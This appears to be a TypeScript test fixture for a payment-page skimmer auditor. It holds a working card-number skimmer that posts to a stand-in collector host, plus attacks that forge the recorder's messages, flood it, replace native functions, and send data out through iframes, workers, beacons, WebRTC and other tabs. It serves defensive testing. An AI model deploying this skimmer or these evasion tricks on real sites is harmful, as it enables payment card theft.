/** Payment pages with a skimmer, each with an attack on whoever watches it: on with `?on`, else the same page without it. */
import { HELLO } from '../../entrypoints/recorder/wire.ts';

/** Addresses that a page needs of its server. */
export interface Places {
  /** Origin of the host that nothing may reach while a tab is sealed. */
  collector: string;
  /** Loopback port that counts datagrams and connections of WebRTC. */
  peers: number;
}

export interface Attack {
  does: string;
  /** Script of the head, in front of the skimmer; runs where the address has `?on`. */
  early?: (places: Places) => string;
  /** The same at the end of the body. */
  late?: (places: Places) => string;
  /** What the audit must say of its recorder; trusted where nothing stands here. */
  recorder?: { state?: 'tainted'; flooded?: true };
  /** Natives that must be named as replaced. */
  replaced?: readonly string[];
  /** Verdicts on the page itself that the attack may change, and to what. */
  changes?: Readonly<Record<string, 'unknown' | 'pass'>>;
  /** Its sends pass by the hooks: the seal holds them, and nobody can say what they held. */
  unseen?: true;
  /** The page does not come to rest: it may be that there is nothing to audit. */
  restless?: boolean;
}

const FORM = `<form method="post" action="/order"><label for="no">カード番号</label>
<input id="no" name="card_no" autocomplete="cc-number" inputmode="numeric" maxlength="19"><label>有効期限
<input name="exp" autocomplete="cc-exp" maxlength="5"></label><label>セキュリティコード
<input name="cvc" autocomplete="cc-csc" maxlength="4"></label><button>ご注文を確定する</button></form>`;

const REPLACED = `
for (const [owner, key] of [[window, 'fetch'], [XMLHttpRequest.prototype, 'send'], [JSON, 'stringify'], [window, 'btoa']]) {
  const native = owner[key];
  owner[key] = function (...args) { window.overheard = (window.overheard ?? 0) + args.length; return native.apply(this, args); };
}
const value = Object.getOwnPropertyDescriptor(HTMLInputElement.prototype, 'value');
Object.defineProperty(HTMLInputElement.prototype, 'value', { ...value, get() { return value.get.call(this); } });`;

const REPLACED_NAMES = ['fetch', 'XMLHttpRequest.send', 'JSON.stringify', 'HTMLInputElement.value'];

// Elements that are gone cannot be judged; that they were taken away is told.
const WITHOUT_SCRIPTS = {
  'script-without-integrity': 'pass',
  'third-party-script-on-payment-page': 'pass',
} as const;

const FORGED = ['fetch', 'https://forged.example/', 'post', 'x', 1, '', 1, 0];

export const ATTACKS = {
  'flooded with events': {
    does: 'calls what is watched 300,000 times',
    recorder: { flooded: true },
    late: () => `
const no = document.querySelector('#no'), form = document.createElement('form'), heard = () => {};
for (let n = 0; n < 100000; n++) { btoa('4000 0000 ' + n); no.value; no.addEventListener('input', heard); }
for (let n = 0; n < 3000; n++) form.action = 'http://h' + n + '.localhost/';
for (let n = 0; n < 10000; n++) fetch('data:,' + n).catch(() => {});`,
  },
  'forging messages': {
    does: 'speaks on the channel as if it were ours',
    recorder: { state: 'tainted' },
    replaced: ['EventTarget.addEventListener'],
    early: () => `
for (const type of ${JSON.stringify(Object.values(HELLO))})
  for (const target of [window, document]) {
    const { port1, port2 } = new MessageChannel();
    port1.onmessage = ({ data }) => { window.heard = JSON.stringify(data); };
    target.dispatchEvent(new MessageEvent(type, { ports: [port2], cancelable: true, bubbles: true }));
    port1.postMessage({ events: [${JSON.stringify(FORGED)}], replaced: ['fetch'], dropped: 0, flooded: false, mode: 'contain' });
    const other = new MessageChannel();
    window.postMessage({ type, events: [${JSON.stringify(FORGED)}], mode: 'watch' }, '*', [other.port2]);
  }
for (const [owner, key] of [[EventTarget.prototype, 'addEventListener'], [EventTarget.prototype, 'dispatchEvent'], [MessagePort.prototype, 'postMessage']]) {
  const native = owner[key];
  owner[key] = function (...args) { if (String(args[0]?.type ?? args[0]).includes('reji')) window.heard = args; return native.apply(this, args); };
}`,
  },
  'replacing natives first': {
    does: 'has them before its other scripts',
    early: () => REPLACED,
    replaced: REPLACED_NAMES,
  },
  'replacing natives last': {
    does: 'has them after all other scripts',
    late: () => REPLACED,
    replaced: REPLACED_NAMES,
  },
  'written anew': {
    does: 'opens its document again and writes the same form',
    changes: WITHOUT_SCRIPTS,
    late: () => `
addEventListener('load', () => setTimeout(() => {
  const { collect } = window;
  document.open(); document.write('<!doctype html><title>お支払い</title>' + ${JSON.stringify(FORM)}); document.close();
  document.addEventListener('input', collect); document.addEventListener('click', collect, true);
}, 0));`,
  },
  'sending by pristine functions': {
    does: 'takes them from a frame that it makes at that moment',
    unseen: true,
    early: ({ collector, peers }) => `
window.sendAway = (number) => {
  const frame = document.createElement('iframe');
  frame.hidden = true;
  document.body.append(frame);
  const pure = frame.contentWindow;
  const attempt = (act) => { try { act(); } catch {} };
  const to = (way) => '${collector}/' + way + '?' + number;
  attempt(() => pure.fetch(to('frame-fetch'), { mode: 'no-cors' }).catch(() => {}));
  attempt(() => pure.fetch.call(window, to('borrowed-fetch'), { mode: 'no-cors' }).catch(() => {}));
  attempt(() => pure.navigator.sendBeacon(to('frame-beacon'), number));
  attempt(() => pure.Navigator.prototype.sendBeacon.call(navigator, to('borrowed-beacon'), number));
  attempt(() => { const request = new pure.XMLHttpRequest(); request.open('POST', to('frame-xhr')); request.onerror = () => {}; request.send(number); });
  attempt(() => { new pure.Image().src = to('frame-image'); });
  attempt(() => { new pure.WebSocket(to('frame-socket').replace('http', 'ws')); });
  attempt(() => pure.open(to('frame-open')));
  attempt(() => { const link = document.createElement('a'); link.href = to('new-tab'); link.target = '_blank'; link.rel = 'noopener'; link.click(); });
  attempt(() => {
    const form = document.createElement('form');
    form.action = '${collector}/form'; form.target = '_blank'; form.innerHTML = '<input name="n" value="' + number + '">';
    document.body.append(form);
    pure.HTMLFormElement.prototype.submit.call(form);
  });
  attempt(() => {
    const peer = new pure.RTCPeerConnection({ iceServers: [{ urls: 'turn:127.0.0.1:${peers}?transport=tcp', username: number, credential: 'x' }, { urls: 'stun:127.0.0.1:${peers}' }] });
    peer.createDataChannel('x');
    peer.setLocalDescription();
  });
  attempt(() => worker.postMessage(to('worker')));
  attempt(() => shared.port.postMessage(to('shared-worker')));
  attempt(() => { localStorage.setItem('staged', to('other-tab-storage')); });
  attempt(() => radio.postMessage(to('other-tab-channel')));
};
const inside = (text) => URL.createObjectURL(new Blob([text]));
const worker = new Worker(inside('onmessage = ({ data }) => fetch(data, { mode: "no-cors" }).catch(() => {});'));
const shared = new SharedWorker(inside('onconnect = ({ ports: [port] }) => { port.onmessage = ({ data }) => fetch(data, { mode: "no-cors" }).catch(() => {}); };'));
shared.port.start();
const radio = new BroadcastChannel('away');`,
  },
  'without script elements': {
    does: 'takes all of them away once they ran',
    changes: WITHOUT_SCRIPTS,
    late: () => `document.querySelectorAll('script').forEach((script) => script.remove());`,
  },
  frozen: {
    does: 'freezes the prototypes that everything inherits from',
    early: () => `
for (const type of [Object, Array, Function, Promise, String]) Object.freeze(type.prototype);
Object.freeze(Error); Object.freeze(JSON);`,
  },
  'rewriting its history': {
    does: 'never stops changing its address',
    late: () => `
let turn = 0;
setInterval(() => { turn++; if (turn % 2) location.hash = turn; else history.replaceState(turn, '', '?on&turn=' + turn); }, 20);
setInterval(() => history.pushState(turn, '', '?on&pushed'), 300);`,
  },
  'reloading for ever': {
    does: 'never stops loading itself',
    late: () => `setTimeout(() => location.reload(), 150);`,
    restless: true,
  },
} as const satisfies Record<string, Attack>;

export type AttackName = keyof typeof ATTACKS;

/** Another host's script: sends the number as soon as it is whole, and again when the button is pressed. */
export const skimmerText = ({ collector }: Places): string => `
window.sendAway ??= (number) => { fetch('${collector}/taken', { method: 'POST', mode: 'no-cors', body: number }).catch(() => {}); };
window.collect = () => {
  const number = document.querySelector('#no')?.value.replace(/\\D/g, '') ?? '';
  if (number.length > 13 && window.taken !== number) { window.taken = number; window.sendAway(number); }
};
document.addEventListener('input', window.collect);
document.addEventListener('click', window.collect, true);`;

/** Another tab of the same shop that sends what the first one stages. */
export const LISTENER = `<!doctype html><title>お店</title><script>
const away = (address) => fetch(address, { mode: 'no-cors' }).catch(() => {});
addEventListener('storage', ({ newValue }) => { if (newValue?.startsWith('http')) away(newValue); });
new BroadcastChannel('away').onmessage = ({ data }) => away(data);
</script>`;

// What the page itself sees of anything that goes wrong.
const WATCH = `window.seen = [];
addEventListener('error', ({ message }) => seen[seen.length] = 'error ' + message);
addEventListener('unhandledrejection', ({ reason }) => seen[seen.length] = 'rejection ' + reason);
document.addEventListener('securitypolicyviolation', ({ violatedDirective }) => seen[seen.length] = 'policy ' + violatedDirective);`;

export function markupOf(attack: Attack, places: Places): string {
  const script = (make: Attack['early']): string =>
    make ? `<script>if (/^\\?on/.test(location.search)) {${make(places)}}</script>` : '';
  return `<!doctype html><html lang="ja"><head><meta charset="utf-8"><title>お支払い</title><script>${WATCH}</script>
${script(attack.early)}<script src="${places.collector}/skimmer.js"></script></head>
<body>${FORM}${script(attack.late)}</body></html>`;
}
